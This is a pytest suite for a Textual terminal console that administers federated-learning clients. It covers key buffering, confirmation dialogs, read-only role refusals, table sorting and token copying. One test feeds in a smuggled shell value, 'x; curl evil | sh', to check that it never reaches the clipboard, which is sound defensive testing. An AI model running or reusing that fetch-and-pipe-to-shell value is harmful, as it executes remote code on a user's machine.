"""Keys as fast as a paste, keys that are refused, and the k9s-style keys of the clients table.

Issue 10, defects 3 and 9: keys typed after ``:`` went to the dashboard as
hotkeys when they arrived together (``:xyz`` opened the shutdown picker);
destructive pickers defaulted to the server; a member's dimmed key and a
mutating command typed on ``:`` said nothing, or asked first. Then the
views on ``:``, sorting, columns and copying a token.
"""

from __future__ import annotations

import asyncio
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from textual.screen import Screen
from textual.widgets import DataTable, Input, OptionList, SelectionList

from fladmin.client import CommandReply
from flcore.feed import ClientRow, FeedEvent, Snapshot
from fldev.poll import wait_for
from fldev.replay import ReplayLink
from fltui.app import ConsoleApp
from fltui.screens.client import ClientScreen
from fltui.screens.dialogs import ChoiceScreen, ColumnsScreen, ConfirmScreen
from fltui.screens.help import HelpScreen
from fltui.screens.sitelogs import SiteLogScreen
from fltui.screens.validation import ValidationScreen
from fltui.widgets.clients import COLUMNS, ClientsTable
from fltui.widgets.commandline import CommandLine
from fltui.widgets.logview import LogView
from fltui.wizard.screen import WizardScreen
from tests.tui.helpers import burst, queue, shown, typed
from tests.tui.recorded import CLIENTS, LOGS, NOW, RUN, SERVER, recorded_events
from tests.tui.test_console import console, ready, sent, stopped_run

SIZES = [(80, 24), (120, 36), (200, 50)]
ids = [f"{w}x{h}" for w, h in SIZES]


@pytest.mark.parametrize("size", SIZES, ids=ids)
def test_keys_typed_after_a_colon_all_reach_the_command_line(
    tmp_path: Path, size: tuple[int, int]
) -> None:
    async def scenario() -> None:
        app, link = console(tmp_path, stopped_run())
        async with app.run_test(size=size) as pilot:
            await ready(pilot)
            line = app.dashboard.query_one(CommandLine)
            burst(app, ":xyz")
            await wait_for(pilot, lambda: line.value == "xyz")
            assert app.screen is app.dashboard  # no picker opened by x
            burst(app, "escape", ":check_status server", "enter")
            await wait_for(pilot, lambda: link.sent)
            assert sent(link) == ["check_status server"]
            assert not isinstance(app.screen, ValidationScreen)  # v was text, not a key
            burst(app, ":set_run_number 5", "enter", ":deploy digits_fedavg server", "enter")
            await wait_for(pilot, lambda: len(link.sent) == 3)
            assert sent(link)[1:] == ["set_run_number 5", "deploy digits_fedavg server"]
            assert app.screen is app.dashboard  # p (the wizard) and d were text
            await pilot.press(":", *"check_status client", "enter")  # one pilot.press
            await wait_for(pilot, lambda: len(link.sent) == 4)
            assert sent(link)[3] == "check_status client"

    asyncio.run(scenario())


def test_a_slash_typed_ahead_filters_with_every_key(tmp_path: Path) -> None:
    async def scenario() -> None:
        app, _ = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            table = app.dashboard.query_one(ClientsTable)
            burst(app, "/stale", "enter")
            await wait_for(pilot, lambda: table.filter == "stale")
            assert table.shown == ["flclient1_1"] and app.screen is app.dashboard

    asyncio.run(scenario())


def test_destructive_pickers_preselect_nothing_and_list_the_server_last(tmp_path: Path) -> None:
    async def scenario() -> None:
        app, link = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            for key in ("x", "a"):
                await pilot.press(key)
                picker = await shown(pilot, app, ChoiceScreen)
                options = picker.query_one(OptionList)
                assert options.highlighted is None
                last = options.get_option_at_index(options.option_count - 1)
                assert str(last.prompt).startswith("the server")
                burst(app, "enter", "enter")  # enters typed ahead pick nothing
                await pilot.pause()
                assert app.screen is picker and link.sent == []
                await pilot.press("escape")
                await wait_for(pilot, lambda: app.screen is app.dashboard)
            await pilot.press("s")
            picker = await shown(pilot, app, ChoiceScreen)
            assert picker.query_one(OptionList).highlighted == 0  # a start is no danger

    asyncio.run(scenario())


def test_confirmation_titles_name_the_target_as_the_picker_did(tmp_path: Path) -> None:
    async def scenario() -> None:
        app, _ = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            await pilot.press("x")
            picker = await shown(pilot, app, ChoiceScreen)
            options = picker.query_one(OptionList)
            options.highlighted = 1
            assert str(options.get_option_at_index(1).prompt) == "all clients (5)"
            await pilot.press("enter")
            confirm = await shown(pilot, app, ConfirmScreen)
            title = str(confirm.query_one(".dialog-title").render())
            assert title == "Shut down: all clients (5)"
            assert str(confirm.query_one(".dialog-label").render()) == "This shuts down:"

    asyncio.run(scenario())


@pytest.mark.parametrize("size", [(80, 24), (200, 50)], ids=["80x24", "200x50"])
def test_keys_typed_before_a_confirmation_was_shown_never_answer_it(
    tmp_path: Path, size: tuple[int, int]
) -> None:
    """``:abort client⏎`` then ``:ch⇥⏎`` typed at once: the tab and enter meant for the
    command line waited in the queue while the server's question came, then moved the focus
    to *abort* and pressed it. Keys typed before the question was shown answer nothing."""

    async def scenario() -> None:
        app, link = console(tmp_path)
        async with app.run_test(size=size) as pilot:
            await ready(pilot)
            burst(app, ":abort client", "enter")
            ahead = typed(":ch", "tab", "enter")  # typed while the question is on its way
            confirm = await shown(pilot, app, ConfirmScreen)
            queue(app, ahead)
            await pilot.press("tab")  # the first key after the question was shown
            assert app.screen is confirm and sent(link) == ["abort client"]
            assert confirm.focused is confirm.query_one("#confirm-ok")
            await pilot.press("enter")
            await wait_for(pilot, lambda: len(link.sent) == 2)
            assert sent(link) == ["abort client", "abort client!"]

    asyncio.run(scenario())


def dialog_titles(app: ConsoleApp) -> list[str]:
    """The title of the picker on top, once it is set up (none while the dashboard is)."""
    screen = app.screen
    if isinstance(screen, ChoiceScreen) and screen.is_mounted:
        return [str(screen.query_one(".dialog-title").render())]
    return []


@pytest.mark.parametrize("size", [(80, 24), (200, 50)], ids=["80x24", "200x50"])
def test_keys_typed_after_a_command_key_land_in_the_dialog_it_opens(
    tmp_path: Path, size: tuple[int, int]
) -> None:
    """``a↓⏎`` at once: ``↓`` moved the table's cursor and ``⏎`` opened a client's details
    before the abort picker came, which then offered the client under the moved cursor.
    Keys typed after a command key wait for its dialog, even one that asks the server first
    (``d``), and a prompt gets the characters (``n7⏎``)."""

    async def scenario() -> None:
        app, link = console(tmp_path, stopped_run())
        async with app.run_test(size=size) as pilot:
            await ready(pilot)
            await wait_for(pilot, lambda: app.store.run.server_status == "training stopped")
            burst(app, "n7", "enter")
            await wait_for(pilot, lambda: link.sent)
            assert sent(link) == ["set_run_number 7"]
            burst(app, "d", "enter")  # the first app the server lists
            title = "Deploy digits_custom on"
            await wait_for(pilot, lambda: title in dialog_titles(app), what="the target picker")
            assert sent(link) == ["set_run_number 7", "list_apps"]
            await pilot.press("escape")
            await wait_for(pilot, lambda: app.screen is app.dashboard)

        app, link = console(tmp_path / "training")
        async with app.run_test(size=size) as pilot:
            await ready(pilot)
            burst(app, "a", "down", "enter")  # the client under the cursor: flclient1
            await shown(pilot, app, ConfirmScreen)
            assert sent(link) == ["abort client flclient1"]
            assert app.dashboard.query_one(ClientsTable).selected == "flclient1"

    asyncio.run(scenario())


def screens_shown(app: ConsoleApp) -> list[Screen[Any]]:
    """Every screen the app shows from now on, in turn (one shown briefly too)."""
    seen: list[Screen[Any]] = []
    app.screen_change_signal.subscribe(app, seen.append)
    return seen


@pytest.mark.parametrize("size", [(80, 24), (200, 50)], ids=["80x24", "200x50"])
def test_keys_typed_through_the_deploy_flow_reach_each_picker_in_turn(
    tmp_path: Path, size: tuple[int, int]
) -> None:
    """``d↓⏎↓⏎`` at once: the keys after the app picker's ``⏎`` reached the dashboard before
    the target picker came; the last ``⏎`` opened a client's details over it, and nothing
    was deployed. The whole deploy flow holds the keys: each picker gets its own, in order."""

    async def scenario() -> None:
        app, link = console(tmp_path)
        async with app.run_test(size=size) as pilot:
            await ready(pilot)
            table = app.dashboard.query_one(ClientsTable)
            burst(app, "d", "down", "enter", "down", "enter")  # the second app, all clients
            await wait_for(pilot, lambda: len(link.sent) == 2, what="the deploy")
            assert sent(link) == ["list_apps", "deploy digits_fedavg client"]
            await wait_for(pilot, lambda: app.screen is app.dashboard)
            assert table.selected == "flclient1"
            seen = screens_shown(app)
            burst(app, "d", "enter", "escape", "down")  # esc cancels the target picker
            await wait_for(pilot, lambda: table.selected == "flclient2", what="the cursor")
            assert app.screen is app.dashboard and len(link.sent) == 3
            assert not any(isinstance(s, ClientScreen) for s in seen)
            assert sum(isinstance(s, ChoiceScreen) for s in seen) == 2

    asyncio.run(scenario())


@pytest.mark.parametrize("size", [(80, 24), (200, 50)], ids=["80x24", "200x50"])
def test_keys_typed_after_v_wait_for_the_validation_matrix(
    tmp_path: Path, size: tuple[int, int]
) -> None:
    """``v↓`` at once: ``↓`` moved the clients' cursor while the server worked out the
    matrix, and ``vq`` quit the console instead of closing the matrix."""

    async def scenario() -> None:
        app, link = console(tmp_path)
        async with app.run_test(size=size) as pilot:
            await ready(pilot)
            table = app.dashboard.query_one(ClientsTable)
            burst(app, "v", "down")
            matrix = await shown(pilot, app, ValidationScreen)
            cells = matrix.query_one(DataTable)
            await wait_for(pilot, lambda: cells.cursor_coordinate.row == 1, what="the cursor")
            assert table.selected == "flclient1"
            await pilot.press("escape")
            await wait_for(pilot, lambda: app.screen is app.dashboard)
            seen = screens_shown(app)
            burst(app, "v", "q")  # q closes the matrix
            await wait_for(pilot, lambda: len(link.sent) == 2)
            await wait_for(
                pilot,
                lambda: (
                    sum(isinstance(s, ValidationScreen) for s in seen) == 1
                    and app.screen is app.dashboard
                ),
                what="the second matrix shown and closed",
            )
            assert app.is_running and sent(link) == ["validate all", "validate all"]

    asyncio.run(scenario())


@pytest.mark.parametrize("size", [(80, 24), (200, 50)], ids=["80x24", "200x50"])
def test_keys_typed_after_c_land_in_the_columns_dialog(
    tmp_path: Path, size: tuple[int, int]
) -> None:
    """``c↓␣d`` at once: ``d``, a key acted on as it is read, opened the deploy picker
    (asking the server for its apps) before the columns dialog came. Every key after ``c``
    goes to the dialog, where ``d`` means nothing."""

    async def scenario() -> None:
        app, link = console(tmp_path)
        async with app.run_test(size=size) as pilot:
            await ready(pilot)
            table = app.dashboard.query_one(ClientsTable)
            seen = screens_shown(app)
            burst(app, "c", "down", " ", "d")
            dialog = await shown(pilot, app, ColumnsScreen)
            choices = dialog.query_one(SelectionList)
            await wait_for(pilot, lambda: table.hidden, what="a column hidden")
            assert table.hidden == {choices.get_option_at_index(1).value}
            assert table.selected == "flclient1" and not table.marked
            await pilot.press("space")
            await wait_for(pilot, lambda: not table.hidden, what="the column shown again")
            await pilot.press("escape")
            await wait_for(pilot, lambda: app.screen is app.dashboard)
            assert link.sent == []
            assert not any(isinstance(s, ChoiceScreen) for s in seen)

    asyncio.run(scenario())


@pytest.mark.parametrize("size", [(80, 24), (200, 50)], ids=["80x24", "200x50"])
def test_keys_typed_after_a_question_mark_land_in_the_help(
    tmp_path: Path, size: tuple[int, int]
) -> None:
    """``?/x⎋`` at once: ``/`` opened the dashboard's log filter before the help came, the
    rest went to the filter, and the help then stayed open."""

    async def scenario() -> None:
        app, _ = console(tmp_path)
        async with app.run_test(size=size) as pilot:
            await ready(pilot)
            seen = screens_shown(app)
            burst(app, "?", "/x", "escape")  # the help has no / and closes on esc
            await wait_for(
                pilot,
                lambda: (
                    any(isinstance(s, HelpScreen) for s in seen) and app.screen is app.dashboard
                ),
                what="the help shown and closed",
            )
            assert not app.dashboard.query_one("#filter").display
            assert app.dashboard.query_one(LogView).filter_text == ""

    asyncio.run(scenario())


class SilentServer(ReplayLink):
    """The recorded run, on a server that never answers ``list_apps``."""

    async def execute(self, line: str, confirmed: bool = False) -> CommandReply:
        reply = await super().execute(line, confirmed)  # remembered as sent
        if line == "list_apps":
            await asyncio.Event().wait()
        return reply


def test_quitting_works_while_keys_wait_for_a_dialog(tmp_path: Path) -> None:
    """Keys typed after ``d`` wait for the server's apps, but ``ctrl+q`` acts at once."""

    async def scenario() -> None:
        link = SilentServer(recorded_events())
        app = ConsoleApp(link, clock=lambda: NOW, flush_s=0.05)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            burst(app, "d", "down")
            await wait_for(pilot, lambda: link.sent)
            table = app.dashboard.query_one(ClientsTable)
            assert table.selected == "flclient1"  # down waits for the picker
            await pilot.press("ctrl+q")
            await wait_for(pilot, lambda: not app.is_running)

    asyncio.run(scenario())


def test_a_members_refused_key_and_command_say_why_and_ask_nothing(tmp_path: Path) -> None:
    async def scenario() -> None:
        app, link = console(tmp_path, role="member", user="viewer@lead.org")
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            status = app.dashboard.query_one("#status-line")
            await pilot.press("s")
            assert status.display
            assert str(status.render()) == "member role: read-only (start needs the super role)"
            burst(app, ":abort client", "enter")
            await wait_for(pilot, lambda: "abort client: not sent" in str(status.render()))
            assert "member role: read-only" in str(status.render())
            assert not isinstance(app.screen, ConfirmScreen) and link.sent == []
            assert any("abort client: not sent" in e.message for e in app.store.logs)
            burst(app, ":check_status server", "enter")  # a read-only command goes through
            await wait_for(pilot, lambda: link.sent)
            assert sent(link) == ["check_status server"]

    asyncio.run(scenario())


def test_a_dimmed_key_of_a_super_admin_says_why_too(tmp_path: Path) -> None:
    async def scenario() -> None:
        app, _ = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            await pilot.press("n")  # run 1 is training
            status = app.dashboard.query_one("#status-line")
            assert str(status.render()) == "run 1 is training: abort it before setting another run"

    asyncio.run(scenario())


def test_views_switch_on_the_command_line_with_completion(tmp_path: Path) -> None:
    async def scenario() -> None:
        app, _ = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            line = app.dashboard.query_one(CommandLine)
            await pilot.press(":", "c", "l")
            await wait_for(pilot, lambda: line._suggestion == "clients")
            await pilot.press("escape")
            burst(app, ":logs flclient2", "enter")
            logs = await shown(pilot, app, SiteLogScreen)
            assert logs.instance == "flclient2"
            await pilot.press("escape")
            await wait_for(pilot, lambda: app.screen is app.dashboard)
            await pilot.press("4", "z")
            assert app.dashboard.maximized is not None
            burst(app, ":clients", "enter")
            table = app.dashboard.query_one(ClientsTable)
            await wait_for(pilot, lambda: app.focused is table)
            assert app.dashboard.maximized is None

    asyncio.run(scenario())


def test_the_clients_table_sorts_by_a_column_and_cycles(tmp_path: Path) -> None:
    async def scenario() -> None:
        app, _ = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            table = app.dashboard.query_one(ClientsTable)
            server_order = table.shown
            await pilot.press("H")  # shift+h: by status, troubled first
            assert table.shown[:2] == ["site-b", "flclient1_1"]  # offline, then stale
            assert "by status ▲" in str(app.dashboard.query_one("#clients-pane").border_title)
            await pilot.press("H")
            assert table.shown[-2:] == ["flclient1_1", "site-b"]
            await pilot.press("B")  # by beat: the longest silence first
            assert table.shown[0] == "flclient1_1"
            assert table.selected == table.shown[table.cursor_row]
            await pilot.press("S")
            assert table.sort_column == "round"
            for _ in range(20):
                if not table.sort_column:
                    break
                await pilot.press("S")
            assert table.sort_column == "" and table.shown == server_order

    asyncio.run(scenario())


@pytest.mark.parametrize("size", SIZES, ids=ids)
def test_sorting_keeps_working_with_names_longer_than_their_column(
    tmp_path: Path, size: tuple[int, int]
) -> None:
    """The sort found each row by its drawn name, which a long name has cut short: any sort
    key (and the refresh while a sort was on) crashed the console."""
    long = [
        replace(CLIENTS[0], instance=name, client_name=name, round=r)
        for r, name in enumerate(["hospital-bordeaux-north-wing", "hospital-bordeaux-south-wing"])
    ]
    events = [FeedEvent(100, NOW - 130, Snapshot(SERVER, RUN, (*CLIENTS, *long), LOGS))]

    async def scenario() -> None:
        app, _ = console(tmp_path, events)
        async with app.run_test(size=size) as pilot:
            table = app.dashboard.query_one(ClientsTable)
            await wait_for(pilot, lambda: app.connected and table.row_count == len(CLIENTS) + 2)
            for _ in range(20):  # S moves the sort to the next column: each one sorts
                await pilot.press("S")
                if table.sort_column == "round":
                    break
            assert table.sort_column == "round"
            keys = [table._views[instance].sort_value("round") for instance in table.shown]
            assert keys == sorted(keys, reverse=table.sort_reverse)
            assert {long[0].instance, long[1].instance} <= set(table.shown)
            await pilot.press("H")
            assert table.sort_column == "health" and app.is_running

    asyncio.run(scenario())


def test_columns_can_be_hidden_and_shown(tmp_path: Path) -> None:
    async def scenario() -> None:
        app, _ = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            table = app.dashboard.query_one(ClientsTable)
            assert "token" in table.columns_shown
            await pilot.press("c")
            screen = await shown(pilot, app, ColumnsScreen)
            choices = screen.query_one("SelectionList", SelectionList)
            token = next(
                i
                for i in range(choices.option_count)
                if choices.get_option_at_index(i).value == "token"
            )
            choices.highlighted = token
            await pilot.press("space")
            await wait_for(pilot, lambda: "token" not in table.columns_shown)
            await pilot.press("space", "escape")
            await wait_for(pilot, lambda: app.screen is app.dashboard)
            assert "token" in table.columns_shown
            assert str(table.get_cell("flclient1", "token")) == "5c1e0a2f"

    asyncio.run(scenario())


def test_y_copies_the_token_of_the_selected_client(tmp_path: Path) -> None:
    async def scenario() -> None:
        app, link = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            await pilot.press("down", "y")
            assert app.clipboard == "9d3b7e41"  # the token id: the token never leaves the server
            messages = [n.message for n in app._notifications]
            assert any("token id of flclient2 copied" in m for m in messages)
            # What a server calls a token id is copied only when it is one: pasted into a
            # terminal, other text could run.
            row = app.store.clients["flclient2"]
            link.push(replace(row, token_id="x; curl evil | sh"))
            await wait_for(pilot, lambda: app.store.clients["flclient2"].token_id != "9d3b7e41")
            await pilot.press("y")
            assert app.clipboard == "9d3b7e41"

    asyncio.run(scenario())


def test_a_mark_is_dropped_when_the_instance_comes_back_in_a_new_session(tmp_path: Path) -> None:
    async def scenario() -> None:
        app, link = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            table = app.dashboard.query_one(ClientsTable)
            await pilot.press("space", "down", "space")
            assert table.marked == {"flclient1", "flclient2"}
            row = app.store.clients["flclient2"]
            link.push(ClientRow(**{**row.__dict__, "token_id": "ffff0000"}))
            await wait_for(pilot, lambda: table.marked == {"flclient1"})
            assert str(table.get_cell("flclient2", "instance")).startswith("  ")

    asyncio.run(scenario())


def test_a_row_of_another_run_shows_no_round_or_samples(tmp_path: Path) -> None:
    """Issue 10, defect 6: after a new run number, last run's round and samples are not now."""
    events = recorded_events()

    async def scenario() -> None:
        app, link = console(tmp_path, events)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            table = app.dashboard.query_one(ClientsTable)
            assert str(table.get_cell("flclient1", "round")) == "3"
            run = app.store.run
            link.push(type(run)(run_number=2, server_status="training not started"), time=NOW)
            await wait_for(pilot, lambda: str(table.get_cell("flclient1", "round")) == "-")
            assert str(table.get_cell("flclient1", "samples")) == "-"

    asyncio.run(scenario())


@pytest.mark.parametrize("size", [(80, 24), (200, 50)], ids=["80x24", "200x50"])
def test_a_question_asked_again_is_shown_again(tmp_path: Path, size: tuple[int, int]) -> None:
    """A site joined while the question was open: the server asks again, and the console
    showed that second question as a failed command ("(no reply text)")."""
    asks: list[str] = []

    def answer(line: str, confirmed: bool) -> CommandReply:
        asks.append(line)
        if len(asks) <= 2:
            title = "Shut down: all clients (6)" + (" (changed since you were asked)" * confirmed)
            question = {
                "title": title,
                "heading": "This shuts down:",
                "lines": [],
                "verb": "Shut down",
            }
            return CommandReply(
                line, False, "", {"confirm": question}, 0, "", f"{title}\nAre you sure (Y/N):"
            )
        return CommandReply(line, True, "Shutting down the clients...", {}, 1, "")

    async def scenario() -> None:
        app, link = console(tmp_path, reply=answer)
        async with app.run_test(size=size) as pilot:
            await ready(pilot)
            await pilot.press("colon", *"shutdown client", "enter")
            first = await shown(pilot, app, ConfirmScreen)
            await pilot.press("tab", "enter")
            await wait_for(
                pilot, lambda: app.screen is not first and isinstance(app.screen, ConfirmScreen)
            )
            again = await shown(pilot, app, ConfirmScreen)
            title = str(again.query_one(".dialog-title").render())
            assert title == "Shut down: all clients (6) (changed since you were asked)"
            await pilot.press("tab", "enter")
            await wait_for(pilot, lambda: len(link.sent) == 3)
            assert sent(link) == ["shutdown client", "shutdown client!", "shutdown client!"]
            await wait_for(
                pilot, lambda: any("Shutting down the clients" in e.message for e in app.store.logs)
            )

    asyncio.run(scenario())


@pytest.mark.parametrize("size", [(80, 24), (200, 50)], ids=["80x24", "200x50"])
def test_keys_typed_around_l_and_enter_apply_in_order(
    tmp_path: Path, size: tuple[int, int]
) -> None:
    """``↓lx`` at once: ``x``, acted on as it was read, opened the shutdown picker before
    ``↓`` moved the cursor and ``l`` opened the logs, which then covered the picker. Each
    key acts on what the keys before it made: the logs of the row ``↓`` moved to, then ``x``
    in them (where it means nothing); the same for ``enter`` and a client's details."""

    async def scenario() -> None:
        app, link = console(tmp_path)
        async with app.run_test(size=size) as pilot:
            await ready(pilot)
            table = app.dashboard.query_one(ClientsTable)
            opens: list[tuple[str, type[SiteLogScreen | ClientScreen]]] = [
                ("l", SiteLogScreen),
                ("enter", ClientScreen),
            ]
            for opening, screen_type in opens:
                seen = screens_shown(app)
                burst(app, "down", opening, "x")
                screen = await shown(pilot, app, screen_type)
                assert table.selected == "flclient2"
                assert [type(s) for s in seen] == [screen_type]
                assert screen.instance == "flclient2"
                burst(app, "escape", "up")  # esc closes it, ↑ moves the cursor back
                await wait_for(pilot, lambda: table.selected == "flclient1", what="the cursor")
                assert app.screen is app.dashboard
            assert link.sent == []

    asyncio.run(scenario())


@pytest.mark.parametrize("size", [(80, 24), (200, 50)], ids=["80x24", "200x50"])
def test_keys_typed_after_p_land_in_the_wizard(tmp_path: Path, size: tuple[int, int]) -> None:
    """``px`` at once: ``x`` opened the shutdown picker on the dashboard before the wizard
    came over it. The keys after ``p`` wait for the wizard and go to its first field."""

    async def scenario() -> None:
        app, _ = console(tmp_path)
        app.workspace = tmp_path / "ws"
        async with app.run_test(size=size) as pilot:
            await ready(pilot)
            seen = screens_shown(app)
            burst(app, "p", "x")
            wizard = await shown(pilot, app, WizardScreen)
            field = wizard.query_one("#project-workspace", Input)
            await wait_for(pilot, lambda: field.value.endswith("x"), what="the x typed")
            assert [type(s) for s in seen] == [WizardScreen]

    asyncio.run(scenario())


@pytest.mark.parametrize("size", [(80, 24), (200, 50)], ids=["80x24", "200x50"])
def test_keys_typed_with_a_dialogs_closing_key_all_take_effect(
    tmp_path: Path, size: tuple[int, int]
) -> None:
    """``n7⏎x`` at once: ``x`` went to the prompt as ``⏎`` was closing it, and was lost with
    it. Each key takes effect in turn: a dialog's last key closes it, and the keys after go
    to what is shown then (the shutdown picker here; in the columns dialog, ``␣⎋↓`` hides a
    column, closes and moves the clients' cursor)."""

    async def scenario() -> None:
        app, link = console(tmp_path, stopped_run())
        async with app.run_test(size=size) as pilot:
            await ready(pilot)
            await wait_for(pilot, lambda: app.store.run.server_status == "training stopped")
            table = app.dashboard.query_one(ClientsTable)
            burst(app, "n7", "enter", "x")
            await shown(pilot, app, ChoiceScreen)
            assert sent(link) == ["set_run_number 7"]
            await pilot.press("escape")
            await wait_for(pilot, lambda: app.screen is app.dashboard)
            burst(app, "c", " ", "escape", "down")
            await wait_for(pilot, lambda: table.selected == "flclient2", what="the cursor")
            assert app.screen is app.dashboard
            assert table.hidden == {COLUMNS[1].key}
            await pilot.press("c")
            await shown(pilot, app, ColumnsScreen)
            burst(app, " ", "escape", "up")
            await wait_for(pilot, lambda: table.selected == "flclient1", what="the cursor")
            assert app.screen is app.dashboard
            assert not table.hidden

    asyncio.run(scenario())


@pytest.mark.parametrize("size", [(80, 24), (200, 50)], ids=["80x24", "200x50"])
def test_a_command_key_reads_the_marks_and_cursor_the_keys_before_it_made(
    tmp_path: Path, size: tuple[int, int]
) -> None:
    """``␣↓␣a↓⏎`` at once: the abort picker read the selection before the marks were made."""

    async def scenario() -> None:
        app, link = console(tmp_path / "training")
        async with app.run_test(size=size) as pilot:
            await ready(pilot)
            burst(app, " ", "down", " ", "a", "down", "enter")
            await shown(pilot, app, ConfirmScreen)
            assert sent(link) == ["abort client flclient1 flclient2"]

    asyncio.run(scenario())
